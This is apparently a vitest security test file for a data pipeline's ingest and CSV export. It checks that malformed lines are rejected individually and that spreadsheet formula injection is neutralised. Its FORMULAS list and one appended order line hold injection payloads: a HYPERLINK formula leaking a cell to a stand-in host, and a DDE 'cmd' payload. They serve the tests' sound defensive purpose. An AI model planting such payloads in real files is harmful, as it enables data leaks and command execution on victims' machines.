import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { Database, literal } from '../../pipeline/db/Database.js';
import { migrate } from '../../pipeline/db/migrations.js';
import { generateDemoData } from '../../pipeline/demo/generateDemoData.js';
import { InputError } from '../../pipeline/errors.js';
import { ingestInputs, plainIngestOptions } from '../../pipeline/ingest/ingestInputs.js';
import type { FileIngest } from '../../pipeline/manifest.js';
import { silentLogger } from '../../pipeline/log.js';
import { Random } from '../../pipeline/shared/random.js';
import { runCli } from '../helpers/cli.js';
import { withTempDir, writeFile } from '../helpers/withDb.js';

/**
 * What a hostile or careless user does to fidelio's inputs and outputs
 * (issue 17), each attack with the defect it once caused: formula injection
 * into the CSV files marketers open, lines lost to one stray quote or one
 * huge line, glob characters in file names, implausible dates and numbers,
 * and `fidelio list` edge cases. Seeded: the same attacks every time.
 */

/** Text a spreadsheet would run as a formula (OWASP's list), in every text column that reaches a CSV. */
const FORMULAS = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '=1+1'];
const HEADER = 'order_id,customer_id,order_ts,amount';
const RUN_TIME = new Date('2026-12-01T00:00:00Z');

/** One CSV field, quoted when it needs to be. */
const field = (v: string) => (/[",\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

/** `n` plausible order lines, spread over 2025. */
function orderLines(n: number, rng: Random): string[] {
  return Array.from({ length: n }, (_, i) => {
    const day = new Date(Date.UTC(2025, 0, 1) + rng.int(364) * 86_400_000).toISOString().slice(0, 10);
    return `o${i},c${rng.int(300)},${day}T${String(rng.int(24)).padStart(2, '0')}:00:00Z,${(5 + rng.int(20_000) / 100).toFixed(2)}`;
  });
}

async function ingestOne(path: string): Promise<{ file: FileIngest; rejected: { line: number; reason: string }[]; db: Database }> {
  const db = await Database.open(':memory:');
  await migrate(db);
  const [file] = await ingestInputs(db, { orders: [path] }, plainIngestOptions('attack', RUN_TIME), silentLogger);
  const rejected = await db.all<{ line: number; reason: string }>('SELECT line, reason FROM rejected_rows ORDER BY line');
  return { file: file!, rejected, db };
}

/** Ingests `body` as one orders file and checks that every physical data line is accounted for. */
async function accounted(dir: string, name: string, body: string | Buffer, dataLines: number) {
  const out = await ingestOne(writeFile(dir, name, body));
  out.db.close();
  expect(out.file.rows_read, name).toBe(dataLines);
  expect(out.file.rows_accepted + out.file.rows_rejected + out.file.rows_duplicate, name).toBe(dataLines);
  expect(out.rejected).toHaveLength(out.file.rows_rejected);
  return out;
}

describe('no line is lost', () => {
  test('a stray quote at the start, in the middle or at the end of a file costs its own line only', async () => {
    await withTempDir(async (dir) => {
      const lines = orderLines(11_162, new Random(17));
      for (const at of [0, 9_000, 11_161]) {
        for (const [kind, broken] of [['opening', (l: string) => l.replace(',', ',"')], ['inside', (l: string) => l.replace(',c', ',c"x')]] as const) {
          const copy = [...lines];
          copy[at] = broken(copy[at]!);
          const { file, rejected } = await accounted(dir, `q-${at}-${kind}.csv`, `${HEADER}\n${copy.join('\n')}\n`, lines.length);
          expect(file.rows_rejected, `${kind} quote on data line ${at}`).toBe(1);
          expect(rejected[0]!.line).toBe(at + 2);
          expect(rejected[0]!.reason).toMatch(/quot/);
        }
      }
    });
  });

  test('a line over the limit is rejected on its own in every format, even 200 MB at the end of a file', async () => {
    await withTempDir(async (dir) => {
      const lines = orderLines(2_000, new Random(5));
      const csv = [...lines];
      csv[10] = `o10,c${'x'.repeat(20_000_000)},2025-01-01,5`;
      const a = await accounted(dir, 'long.csv', `${HEADER}\n${csv.join('\n')}\n`, 2_000);
      expect(a.rejected.map((r) => [r.line, r.reason.slice(0, 26)])).toEqual([[12, 'line longer than 1048576 b']]);

      const json = lines.map((l) => {
        const [order_id, customer_id, order_ts, amount] = l.split(',');
        return JSON.stringify({ order_id, customer_id, order_ts, amount: Number(amount) });
      });
      json[10] = JSON.stringify({ order_id: 'big', customer_id: 'x'.repeat(20_000_000), order_ts: '2025-03-03', amount: 1 });
      json.push(JSON.stringify({ order_id: 'huge', customer_id: 'y'.repeat(200_000_000), order_ts: '2025-03-03', amount: 1 }));
      const b = await accounted(dir, 'long.jsonl', json.join('\n'), 2_001);
      expect(b.rejected.map((r) => [r.line, r.reason.slice(0, 26)])).toEqual([[11, 'line longer than 1048576 b'], [2001, 'line longer than 1048576 b']]);
    });
  }, 60_000);

  test('file names with glob characters are read literally, once', async () => {
    await withTempDir(async (dir) => {
      // Each file its own lines: the same bytes twice would be one file, loaded once (loaded_files).
      for (const [i, name] of ['orders*.csv', 'orders[2026].csv', 'orders?.csv', 'orders{a,b}.csv'].entries()) {
        const lines = orderLines(40, new Random(9 + i));
        const { file } = await accounted(dir, name, `${HEADER}\n${lines.join('\n')}\n`, 40);
        expect(file.rows_accepted, name).toBe(40);
      }
      // A glob that the user gave is still expanded (into the files above, each read once).
      const db = await Database.open(':memory:');
      await migrate(db);
      const files = await ingestInputs(db, { orders: [join(dir, 'orders*')] }, plainIngestOptions('glob', RUN_TIME), silentLogger);
      expect(files.map((f) => f.rows_read)).toEqual([40, 40, 40, 40]);
      db.close();
    });
  });
});

describe('values that cannot be true are rejected with their reason', () => {
  test('control characters and direction overrides in ids, dates outside 1990 to the run, numbers that are not plain', async () => {
    await withTempDir(async (dir) => {
      const body = [HEADER,
        'o1,c\u00001,2025-01-01,5', 'o2,c\u00072,2025-01-01,5', 'o3,\u202Ec3,2025-01-01,5', 'o4\u0085,c4,2025-01-01,5',
        'o5,c5,0001-01-01,5', 'o6,c6,-0044-03-15,5', 'o7,c7,1989-12-31,5', 'o8,c8,2026-12-02,5',
        'o9,c9,2025-01-01,1_000', 'o10,c10,2025-01-01,1e30', 'o11,c11,2025-01-01,NaN', 'o12,c12,2025-01-01,0x10',
        'o13,c13,1990-01-01,5', 'o14,c14,2026-11-30T23:59:00Z,1e3', 'o15,ü-ß,2025-01-01,5'].join('\n');
      const { file, rejected } = await accounted(dir, 'values.csv', body, 15);
      expect(file.rows_accepted).toBe(3);
      expect(rejected.map((r) => [r.line, r.reason])).toEqual([
        [2, 'a NUL byte in the line (is the file UTF-16? set formats.orders.encoding: utf-16)'],
        [3, "customer_id 'c?2' holds control characters (shown as ?)"],
        [4, "customer_id '?c3' holds control characters (shown as ?)"],
        [5, "order_id 'o4?' holds control characters (shown as ?)"],
        [6, "order_ts '0001-01-01' is before 1990-01-01, too early to be true (ingest.earliestDate)"],
        [7, "order_ts '-0044-03-15' is before 1990-01-01, too early to be true (ingest.earliestDate)"],
        [8, "order_ts '1989-12-31' is before 1990-01-01, too early to be true (ingest.earliestDate)"],
        [9, expect.stringMatching(/^order_ts '2026-12-02' is after the time of the run \(2026-12-01T00:00:00Z\)/)],
        [10, "amount '1_000' is not a number"],
        [11, "amount '1e30' is out of range (at most 16 digits before the decimal point)"],
        [12, "amount 'NaN' is not a number"],
        [13, "amount '0x10' is not a number"],
      ]);
    });
  });

  test('a file that cannot be a table is refused whole with what to do (exit 2 from the CLI)', async () => {
    await withTempDir(async (dir) => {
      const lines = orderLines(5, new Random(3)).join('\n');
      const cases: [string, string | Buffer, RegExp][] = [
        ['dup.csv', `order_id,order_id,order_ts,amount\n${lines}\n`, /names column\(s\) "order_id" more than once/],
        ['mac.csv', `${HEADER}\r${lines.replaceAll('\n', '\r')}\r`, /carriage returns alone as line ends/],
        ['utf16.csv', Buffer.from(`${HEADER}\n${lines}\n`, 'utf16le'), /probably UTF-16 without a byte-order mark; set formats\.orders\.encoding: utf-16/],
        ['binary.csv', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37) & 0xff)), /does not look like a text file/],
      ];
      for (const [name, body, message] of cases) {
        const err = await ingestOne(writeFile(dir, name, body)).catch((e: Error) => e);
        expect(err, name).toBeInstanceOf(InputError);
        expect((err as Error).message, name).toMatch(message);
        expect((err as Error).message.length, name).toBeLessThan(400);
      }
      const cli = await runCli(['run', '--orders', join(dir, 'binary.csv'), '--db', join(dir, 'f.duckdb'), '--out', join(dir, 'out')]);
      expect(cli.code).toBe(2);
      const future = await runCli(['run', '--orders', join(dir, 'dup.csv'), '--as-of', '9999-12-31', '--db', join(dir, 'g.duckdb'), '--out', join(dir, 'out')]);
      expect(future.code).toBe(2);
      expect(future.errors).toMatch(/^--as-of 9999-12-31 is after today \(\d{4}-\d\d-\d\d, UTC\)/);
      for (const bad of ['2026-02-31', '2026-13-01', 'yesterday']) {
        const asOf = await runCli(['run', '--orders', join(dir, 'dup.csv'), '--as-of', bad, '--db', join(dir, 'g.duckdb'), '--out', join(dir, 'out')]);
        expect(asOf.code, bad).toBe(2);
        expect(asOf.errors, bad).toMatch(/asOf: not a (day of the calendar|date)|as-of/i);
      }
    });
  });
});

/** Every cell of a CSV file, parsed by DuckDB's reader (an independent parser). */
async function csvCells(db: Database, path: string): Promise<{ header: string[]; rows: Record<string, string | null>[] }> {
  const rows = await db.all<Record<string, string | null>>(`SELECT * FROM read_csv(${literal(path)}, all_varchar = true, header = true, quote = '"', escape = '"', delim = ',')`);
  return { header: Object.keys(rows[0] ?? {}), rows };
}

/** A cell a spreadsheet would run: text starting with = + - @ tab or CR that is not a number. */
const runnable = (cell: string | null) => cell !== null && /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell));

describe('what marketers open in a spreadsheet cannot run a formula', () => {
  test('hostile ids, countries, categories and channels reach customer_scores.csv, fidelio list and fidelio rejected neutralised; Parquet and DuckDB keep them as they are', async () => {
    await withTempDir(async (dir) => {
      const demo = generateDemoData(join(dir, 'demo'), { customers: 400, seed: 31, months: 24 });
      const rng = new Random(1717);
      // A seeded choice of customers gets a hostile id; some countries, categories and channels hostile text.
      const ids = [...new Set(readFileSync(demo.customers, 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[0]!))];
      const chosen = new Set<string>();
      while (chosen.size < FORMULAS.length) chosen.add(rng.pick(ids));
      const hostile = new Map([...chosen].map((id, i) => [id, FORMULAS[i]!]));
      const rewrite = (path: string, columns: Record<string, (v: string) => string>) => {
        const [head, ...rest] = readFileSync(path, 'utf8').trim().split('\n');
        const names = head!.split(',');
        writeFileSync(path, [head, ...rest.map((l) => l.split(',').map((v, i) => field(columns[names[i]!]?.(v) ?? v)).join(','))].join('\n') + '\n');
      };
      const id = (v: string) => hostile.get(v) ?? v;
      rewrite(demo.orders, { customer_id: id, category: (v) => (v === 'toys' ? '@toys' : v), channel: (v) => (v === 'app' ? '=app' : v) });
      rewrite(demo.customers, { customer_id: id, country: (v) => (v === 'DE' ? '-DE' : v === 'IT' ? '\tIT' : v), acquisition_channel: (v) => (v === 'email' ? '+email' : v) });
      rewrite(demo.tickets, { customer_id: id });
      // One hostile line that is rejected: its text reaches `fidelio rejected`.
      writeFileSync(demo.orders, readFileSync(demo.orders, 'utf8') + `=cmd|' /C calc'!A0,C001,not a date,1,USD,toys,web,false\n`);

      const config = writeFile(dir, 'config.json', JSON.stringify({ neural: false, scoring: { intervalDraws: 5 } }));
      const db = join(dir, 'f.duckdb');
      const out = join(dir, 'out');
      const run = await runCli(['run', '--orders', demo.orders, '--customers', demo.customers, '--tickets', demo.tickets, '--db', db, '--out', out, '--models', join(dir, 'models'), '--config', config]);
      expect(run.code, run.errors).toBe(0);

      const reader = await Database.open(':memory:');
      try {
        // The published CSV: no runnable cell, the hostile ids there with their quote.
        const scores = await csvCells(reader, join(out, 'customer_scores.csv'));
        const bad = scores.rows.flatMap((r) => Object.entries(r).filter(([, v]) => runnable(v)));
        expect(bad).toEqual([]);
        const csvIds = new Set(scores.rows.map((r) => r.customer_id));
        for (const f of FORMULAS) expect(csvIds.has(`'${f}`), f).toBe(true);
        // Numbers are left alone: negative values stay numbers.
        for (const file of ['kpis_monthly.csv', 'kpis_by_group.csv']) {
          const kpis = await csvCells(reader, join(out, file));
          expect(kpis.rows.flatMap((r) => Object.values(r).filter(runnable)), file).toEqual([]);
        }
        // Machines read the values as they are.
        const parquetIds = new Set((await reader.all<{ id: string }>(`SELECT customer_id AS id FROM read_parquet(${literal(join(out, 'customer_scores.parquet'))})`)).map((r) => r.id));
        for (const f of FORMULAS) expect(parquetIds.has(f), f).toBe(true);
      } finally {
        reader.close();
      }
      const published = await Database.open(join(out, 'fidelio.duckdb'), { readOnly: true });
      try {
        expect(await published.value(`SELECT count(*) FROM customer_scores WHERE customer_id IN (${FORMULAS.map(literal).join(', ')})`)).toBe(FORMULAS.length);
      } finally {
        published.close();
      }

      // fidelio list and fidelio rejected print CSV that is safe too.
      for (const args of [['list', 'at-risk-vip'], ['list', 'save'], ['list', 'surprise'], ['rejected']]) {
        const listed = await runCli([...args, '--db', db]);
        expect(listed.code, args.join(' ')).toBe(0);
        const path = writeFile(dir, 'listed.csv', listed.stdout);
        const reader2 = await Database.open(':memory:');
        try {
          const cells = await csvCells(reader2, path);
          expect(cells.rows.flatMap((r) => Object.values(r).filter(runnable)), args.join(' ')).toEqual([]);
          if (args[0] === 'rejected') expect(cells.rows.some((r) => Object.values(r).some((v) => v?.startsWith(`'=cmd|`)))).toBe(true);
        } finally {
          reader2.close();
        }
      }
      const json = await runCli(['list', 'at-risk-vip', '--format', 'json', '--db', db]);
      expect(json.code).toBe(0);
      // JSON is for machines: values as they are.
      expect(json.stdout).not.toContain(`"'`);
    });
  });
});

describe('fidelio list refuses what it cannot mean', () => {
  test('a count that is not a positive whole number, an empty filter; an empty result still has its header', async () => {
    await withTempDir(async (dir) => {
      const config = writeFile(dir, 'config.json', JSON.stringify({ demo: { customers: 300, months: 24 }, neural: false, scoring: { intervalDraws: 5 } }));
      const db = join(dir, 'f.duckdb');
      expect((await runCli(['run', '--db', db, '--out', join(dir, 'out'), '--models', join(dir, 'models'), '--config', config])).code).toBe(0);
      for (const bad of [['--top', '0'], ['--top', ''], ['--top', '-3'], ['--top', '2.5'], ['--top', '99999999999999999999'], ['--segment', ''], ['--country', ','], ['--tier', '']]) {
        const out = await runCli(['list', 'save', ...bad, '--db', db]);
        expect(out.code, bad.join(' ')).toBe(2);
        expect(out.stdout, bad.join(' ')).toBe('');
      }
      const none = await runCli(['list', 'save', '--country', 'Atlantis\\, the lost', '--db', db]);
      expect(none.code).toBe(0);
      expect(none.stdout.split('\n')[0]).toMatch(/^priority,customer_id,/);
      expect(none.stdout.trim().split('\n')).toHaveLength(1);
    });
  });
});
